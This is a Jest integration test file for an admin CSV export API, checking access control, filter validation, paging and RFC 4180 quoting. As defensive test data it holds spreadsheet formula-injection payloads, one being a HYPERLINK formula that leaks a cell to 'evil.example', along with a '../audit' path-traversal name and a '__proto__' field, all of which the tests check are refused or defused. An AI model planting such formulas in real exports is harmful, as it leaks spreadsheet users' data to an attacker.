import { beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';

import type { ExportColumn, ExportResource } from '@fund/contracts';

import { createActivity, createEnrollment, createKycApplication, createScheme } from '../../../test/factories.js';
import { signInAdminAndInvestor, type AdminAndInvestor } from '../../../test/signed-in.js';
import { createUser, useTestApp } from '../../../test/test-app.js';
import { createAsset } from '../assets/assets.test-utils.js';
import { ExpressionOfInterest } from '../expressions/expression-of-interest.entity.js';
import { Ticket } from '../tickets/ticket.entity.js';

/** RFC 4180 text as rows of cells: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted || (c !== ',' && !(c === '\r' && text[i + 1] === '\n'))) {
      cell += c;
    } else {
      row.push(cell);
      cell = '';
      if (c === '\r') {
        rows.push(row);
        row = [];
        i++;
      }
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const today = () => new Date().toISOString().slice(0, 10);

describe('GET /api/admin/exports/{resource}: an admin list, whole, as CSV', () => {
  const t = useTestApp();
  let { admin, investor, investorCookie } = {} as AdminAndInvestor;

  beforeAll(async () => {
    ({ admin, investor, investorCookie } = await signInAdminAndInvestor(t, { fullName: 'Aisha Rahman' }));
    // A little of every exported list: an enrolled investor with an activity, applications, an
    // expression, a ticket and an asset allocated to the enrollment.
    const scheme = await createScheme(t);
    const enrollment = await createEnrollment(t, { investorId: investor.id, schemeId: scheme.id });
    await createActivity(t, { investorId: investor.id, schemeId: scheme.id });
    await createActivity(t, { investorId: investor.id, schemeId: scheme.id, title: 'Second update' });
    await createKycApplication(t, { investorId: investor.id, status: 'approved', email: investor.email });
    await createKycApplication(t);
    await createKycApplication(t, { status: 'rejected' });
    const expressions = t.dataSource.getRepository(ExpressionOfInterest);
    await expressions.save(
      expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'pending', notes: null, archived: false }),
    );
    await expressions.save(
      expressions.create({ investorId: investor.id, schemeId: scheme.id, status: 'rejected', notes: 'Old', archived: true }),
    );
    const tickets = t.dataSource.getRepository(Ticket);
    for (const status of ['open', 'resolved'] as const) {
      await tickets.save(
        tickets.create({
          investorId: investor.id,
          subject: `A ${status} ticket`,
          description: 'A description long enough.',
          category: 'general',
          priority: 'low',
          status,
        }),
      );
    }
    await t.dataSource.query(
      `INSERT INTO audit_logs (action, action_details) SELECT 'ADMIN_INVITED', 'invited ' || n FROM generate_series(1, 3) AS n`,
    );
    const asset = await createAsset(t);
    await request(t.server)
      .post('/api/admin/asset-enrollments')
      .set('Cookie', admin)
      .send({ assetId: asset.id, enrollmentId: enrollment.id })
      .expect(201);
  });

  /** Query parameters: texts as they are, anything else as JSON. */
  const params = (query: Record<string, unknown>) =>
    Object.fromEntries(Object.entries(query).map(([key, value]) => [key, typeof value === 'string' ? value : JSON.stringify(value)]));
  const exportOf = (resource: string, query: Record<string, unknown> = {}, cookie = admin) =>
    request(t.server).get(`/api/admin/exports/${resource}`).query(params(query)).set('Cookie', cookie);
  const listOf = (path: string, query: Record<string, unknown> = {}) =>
    request(t.server).get(path).query(params(query)).set('Cookie', admin);

  it('refuses a visitor without a session (401) and an investor (403)', async () => {
    const anonymous = await request(t.server).get('/api/admin/exports/audit-logs');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body).toEqual(expect.objectContaining({ statusCode: 401, error: 'Unauthorized' }));
    const asInvestor = await exportOf('audit-logs', {}, investorCookie);
    expect(asInvestor.status).toBe(403);
    expect(asInvestor.body).toEqual(expect.objectContaining({ statusCode: 403, error: 'Forbidden' }));
  });

  it('answers 404 for a list it does not export', async () => {
    const res = await exportOf('users');
    expect(res.status).toBe(404);
    expect(res.body).toEqual({
      statusCode: 404,
      error: 'Not Found',
      message: `No export named "users": one of ${['audit-logs', 'investor-summaries', 'kyc', 'expressions-of-interest', 'enrollments', 'activities', 'asset-allocations', 'tickets'].join(', ')}`,
    });
  });

  it.each([
    ['an unknown filter field', { filter: { nope: 1 } }],
    ['a filter that is not JSON', { filter: '{nope' }],
    ['a filter value of the wrong kind', { filter: { timestamp: 'yesterday' } }],
    ['an unknown sort field', { sort: ['nope', 'ASC'] }],
    ['a sort order that is neither ASC nor DESC', { sort: ['timestamp', 'UP'] }],
  ])('refuses %s with the 400 the list route answers', async (_name, query) => {
    const listed = await listOf('/api/admin/audit-logs', query as Record<string, unknown>);
    expect(listed.status).toBe(400);
    const res = await exportOf('audit-logs', query);
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.body).toEqual(listed.body);
  });

  const FORMULA_REFUSED = 'Invalid columns: column 1 texts may not start with = + - @ or a tab (a spreadsheet would run them)';
  it.each([
    ['range (the export pages itself)', { range: [0, 9] }, 'property range should not exist'],
    ['limit (the audit screen limit shapes the screen only)', { limit: '50' }, 'property limit should not exist'],
    ['columns that are not JSON', { columns: '[{' }, 'Invalid columns: must be JSON'],
    ['no columns', { columns: [] }, 'Invalid columns: expected a JSON array of 1 to 40 {header, field}'],
    ['a column of an unknown field', { columns: [{ header: 'X', field: 'password' }] }, 'Invalid columns: unknown field "password"'],
    ['a column field from the prototype', { columns: [{ header: 'X', field: '__proto__' }] }, 'Invalid columns: unknown field "__proto__"'],
    ['a column without a header', { columns: [{ field: 'action' }] }, 'Invalid columns: column 1 needs a header of 1 to 200 characters'],
    [
      'a column with an unknown option',
      { columns: [{ header: 'A', field: 'action', width: 3 }] },
      'Invalid columns: column 1 has an unknown option "width"',
    ],
    [
      'labels that are not texts',
      { columns: [{ header: 'A', field: 'action', labels: { LOGIN: 1 } }] },
      'Invalid columns: column 1 labels must map values to texts of up to 200 characters',
    ],
    [
      'a formula as a header (a link could plant it in a real export)',
      { columns: [{ header: '=HYPERLINK("http://evil.example/?"&B2,"x")', field: 'action' }] },
      FORMULA_REFUSED,
    ],
    ['a formula as a label', { columns: [{ header: 'Action', field: 'action', labels: { LOGIN: '+1+2' } }] }, FORMULA_REFUSED],
    ['a formula as the empty text', { columns: [{ header: 'IP', field: 'ipAddress', empty: '@SUM(A1)' }] }, FORMULA_REFUSED],
    ['a formula as the present text', { columns: [{ header: 'IP', field: 'ipAddress', present: '-1+2' }] }, FORMULA_REFUSED],
    ['a name with a slash', { name: '../audit' }, 'Invalid name: letters, digits, - and _ only (at most 100)'],
  ])('refuses %s with 400', async (_name, query, message) => {
    const res = await exportOf('audit-logs', query);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ statusCode: 400, error: 'Bad Request', message });
  });

  it('writes every row of a list longer than a page: 2,500 audit entries, newest first, none twice', async () => {
    await t.dataSource.query(
      `INSERT INTO audit_logs (action, action_details, "timestamp")
       SELECT 'LOGOUT', 'entry ' || n, now() - make_interval(secs => n) FROM generate_series(1, 2500) AS n`,
    );
    const res = await exportOf('audit-logs', { filter: { action: 'LOGOUT' } }).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="audit-logs-${today()}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    const [header, ...rows] = parseCsv(res.text);
    // Without columns: every field of the rows, headed by its name.
    expect(header).toEqual([
      'id',
      'userId',
      'userRole',
      'action',
      'actionDetails',
      'ipAddress',
      'userAgent',
      'timestamp',
      'userName',
      'browser',
      'os',
    ]);
    expect(rows).toHaveLength(2500);
    expect(new Set(rows.map((row) => row[0])).size).toBe(2500);
    expect(rows.map((row) => row[4])).toEqual(Array.from({ length: 2500 }, (_, i) => `entry ${i + 1}`));
    expect(rows.every((row) => row[3] === 'LOGOUT' && row[1] === '')).toBe(true);
    expect(res.text.endsWith('\r\n')).toBe(true);
  });

  it('writes only the rows the filters match (User ID and Action), whatever their number', async () => {
    const someone = await createUser(t, { role: 'investor' });
    await t.dataSource.query(
      `INSERT INTO audit_logs (user_id, user_role, action, action_details)
       SELECT $1, 'investor', CASE WHEN n % 3 = 0 THEN 'LOGIN_FAILED' ELSE 'LOGIN' END, 'try ' || n FROM generate_series(1, 1200) AS n`,
      [someone.id],
    );
    const filter = { userId: someone.id, action: 'LOGIN' };
    const res = await exportOf('audit-logs', { filter, name: 'audit-logs-LOGIN' }).expect(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="audit-logs-LOGIN-${today()}.csv"`);
    const [, ...rows] = parseCsv(res.text);
    expect(rows).toHaveLength(800);
    expect(rows.every((row) => row[1] === someone.id && row[3] === 'LOGIN')).toBe(true);
    // The same rows as the list route's first page, in its order.
    const page = await listOf('/api/admin/audit-logs', { filter, range: [0, 99] }).expect(200);
    expect(rows.slice(0, 100).map((row) => row[0])).toEqual((page.body as { id: string }[]).map((entry) => entry.id));
    expect(page.headers['content-range']).toBe('audit-logs 0-99/800');
  });

  it('quotes commas, quotes and line breaks, and defuses cells a spreadsheet would run as formulas', async () => {
    const details = [
      '=HYPERLINK("http://evil.example","click")',
      '+1 555',
      '-2+3',
      '@SUM(A1)',
      '\tTabbed',
      '\rReturn',
      'Rahman, Yusuf',
      'Say "salaam"',
      'Line one\nLine two',
      'Plain text',
    ];
    await t.dataSource.query(
      `INSERT INTO audit_logs (action, action_details, "timestamp")
       SELECT 'PASSWORD_CHANGED', d, now() - make_interval(secs => n) FROM unnest($1::text[]) WITH ORDINALITY AS x(d, n)`,
      [details],
    );
    const columns: ExportColumn[] = [
      { header: 'Details, as written', field: 'actionDetails' },
      { header: 'IP Address', field: 'ipAddress', empty: '-' },
    ];
    const res = await exportOf('audit-logs', { filter: { action: 'PASSWORD_CHANGED' }, columns }).expect(200);
    expect(res.text).toBe(
      [
        '"Details, as written",IP Address',
        `"'=HYPERLINK(""http://evil.example"",""click"")",-`,
        `'+1 555,-`,
        `'-2+3,-`,
        `'@SUM(A1),-`,
        `'\tTabbed,-`,
        `"'\rReturn",-`,
        '"Rahman, Yusuf",-',
        '"Say ""salaam""",-',
        '"Line one\nLine two",-',
        'Plain text,-',
        '',
      ].join('\r\n'),
    );
    expect(
      parseCsv(res.text)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(details.map((d, i) => (i < 6 ? `'${d}` : d)));
  });

  it('heads the columns with the texts sent and writes labels, empty and present texts and days', async () => {
    const columns: ExportColumn[] = [
      { header: 'Full Name', field: 'fullName' },
      { header: 'Status', field: 'status', labels: { pending: 'Pending', approved: 'Approved', rejected: 'Rejected' } },
      { header: 'Submitted', field: 'submittedAt', date: true },
      { header: 'Reviewed', field: 'reviewedAt', date: true, empty: '-' },
      { header: 'Credentials', field: 'investorId', present: 'Yes', empty: 'No' },
    ];
    await t.dataSource.query(
      `UPDATE kyc_applications SET submitted_at = '2026-11-02T10:00:00Z', reviewed_at = '2026-11-03T23:30:00Z' WHERE investor_id = $1`,
      [investor.id],
    );
    const res = await exportOf('kyc', { columns, sort: ['status', 'ASC'] }).expect(200);
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual(['Full Name', 'Status', 'Submitted', 'Reviewed', 'Credentials']);
    expect(rows.map((row) => row.slice(1))).toEqual([
      ['Approved', 'Nov 2, 2026', 'Nov 3, 2026', 'Yes'],
      ['Pending', expect.stringMatching(/^[A-Z][a-z]{2} \d{1,2}, \d{4}$/), '-', 'No'],
      ['Rejected', expect.stringMatching(/^[A-Z][a-z]{2} \d{1,2}, \d{4}$/), '-', 'No'],
    ]);
    const pending = await exportOf('kyc', { columns, filter: { status: 'pending' } }).expect(200);
    expect(
      parseCsv(pending.text)
        .slice(1)
        .map((row) => row[1]),
    ).toEqual(['Pending']);
  });

  it('reads nested fields of the rows by their dotted names', async () => {
    const columns: ExportColumn[] = [
      { header: 'Full Name', field: 'investor.fullName' },
      { header: 'Schemes', field: 'schemeCount' },
    ];
    const res = await exportOf('investor-summaries', { columns, filter: { q: 'aisha' }, name: 'active-investors' }).expect(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="active-investors-${today()}.csv"`);
    expect(res.text).toBe('Full Name,Schemes\r\nAisha Rahman,1\r\n');
  });

  it('exports an investor’s activities with filter.investorId, and refuses them without one', async () => {
    const res = await exportOf('activities', { filter: { investorId: 'not-an-id' } });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      statusCode: 400,
      error: 'Bad Request',
      message: 'Invalid filter: activities are exported one investor at a time (filter.investorId)',
    });
    await exportOf('activities').expect(400);
    const own = await exportOf('activities', {
      filter: { investorId: investor.id },
      columns: [{ header: 'Title', field: 'title' }],
    }).expect(200);
    expect(
      parseCsv(own.text)
        .slice(1)
        .map((row) => row[0])
        .sort(),
    ).toEqual(['Quarterly update', 'Second update']);
  });

  // Each export holds exactly the rows its list route answers, with the same filter and sort.
  it.each<[ExportResource, string, Record<string, unknown>]>([
    ['audit-logs', '/api/admin/audit-logs', { filter: { action: 'ADMIN_INVITED' }, sort: ['actionDetails', 'ASC'] }],
    ['investor-summaries', '/api/admin/investor-summaries', { filter: { hasSchemes: true } }],
    ['kyc', '/api/kyc', { filter: { status: ['pending', 'approved'] } }],
    ['expressions-of-interest', '/api/expressions-of-interest', { filter: { archived: true } }],
    ['enrollments', '/api/enrollments', {}],
    ['activities', '/api/activities/{investor}', { filter: { investorId: '{investor}' }, sort: ['title', 'ASC'] }],
    ['asset-allocations', '/api/admin/asset-allocations', {}],
    ['tickets', '/api/admin/tickets', { filter: { status: ['open', 'in_progress'] } }],
  ])('%s holds the rows of %s', async (resource, path, rawQuery) => {
    const query = JSON.parse(JSON.stringify(rawQuery).replaceAll('{investor}', investor.id)) as Record<string, unknown>;
    const listed = await listOf(path.replace('{investor}', investor.id), { ...query, range: [0, 999] }).expect(200);
    const ids = (listed.body as { id: string }[]).map((row) => row.id);
    expect(ids.length).toBeGreaterThan(0);
    const res = await exportOf(resource, { ...query, columns: [{ header: 'ID', field: 'id' }] }).expect(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${resource}-${today()}.csv"`);
    expect(parseCsv(res.text)).toEqual([['ID'], ...ids.map((id) => [id])]);
  });
});
